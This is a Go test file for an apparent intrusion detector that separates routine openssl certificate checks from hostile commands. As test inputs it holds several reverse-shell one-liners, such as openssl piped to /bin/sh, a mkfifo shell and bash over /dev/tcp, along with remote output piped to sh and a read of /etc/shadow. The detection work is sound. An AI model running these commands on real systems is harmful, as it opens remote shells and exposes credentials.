package detect

import "testing"

func TestTLSCheckOnly(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"openssl s_client -connect 127.0.0.1:443 -servername shop.example < /dev/null 2>/dev/null | openssl x509 -noout -enddate", true},
		{"echo | openssl s_client -connect shop.example:443 2>/dev/null | openssl x509 -noout -dates", true},
		{"timeout 5 openssl s_client -connect h:443 </dev/null | grep -i 'verify return code'", true},
		{"echo Q | timeout 5 openssl s_client -connect h:443 -servername h", true}, // read by nobody
		{"d=$(date +%s); openssl s_client -connect h:443 </dev/null | openssl x509 -noout -enddate", true},
		// wired to a shell: a channel
		{"openssl s_client -quiet -connect 10.9.9.9:8443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 10.9.9.9:8444", false},
		{"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s", false},
		{"openssl s_client -quiet -connect 10.0.0.1:443", false}, // stdin is whoever runs it
		{"openssl s_client -connect h:443 </dev/null | sh", false},
		{"openssl s_client -connect h:443 </dev/null | openssl enc -d -base64 | sh", false},
		// a check beside something else of note
		{"openssl s_client -connect h:443 </dev/null | openssl x509 -noout -enddate; cat /etc/shadow", false},
		{"openssl s_client -connect h:443 </dev/null; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", false},
		{"openssl x509 -in /etc/ssl/certs/x.pem -noout -enddate", false}, // no client at all
	} {
		if got := tlsCheckOnly(c.cmd); got != c.want {
			t.Errorf("tlsCheckOnly(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// TestTLSCheckNotAShell: the site's certificate check run by the web
// account (its shell and the openssl client under it) is no reverse
// shell and no exploitation; the same client wired to a shell is.
func TestTLSCheckNotAShell(t *testing.T) {
	check := "openssl s_client -connect 127.0.0.1:443 -servername shop.example < /dev/null 2>/dev/null | openssl x509 -noout -enddate"
	channel := "openssl s_client -quiet -connect 127.0.0.1:8443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 127.0.0.1:8444"
	for _, c := range []struct {
		name string
		cmd  string
		want bool
	}{
		{"certificate check", check, false},
		{"split-pair channel", channel, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			var all []*Finding
			all = append(all, e.Observe(s.exec(210, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)...)
			all = append(all, e.Observe(s.exec(211, 210, 33, "www-data", "/var/www", "/usr/bin/openssl", "openssl", "s_client", "-connect", "127.0.0.1:443"), s.tree)...)
			all = append(all, e.Observe(s.connect(211, 210, 33, "/usr/bin/openssl", "127.0.0.1", 443), s.tree)...)
			var high []string
			for _, f := range all {
				if f.Severity >= SeverityHigh {
					high = append(high, f.RuleID)
				}
			}
			if got := len(high) > 0; got != c.want {
				t.Errorf("high findings %v; want some: %v", high, c.want)
			}
		})
	}
}
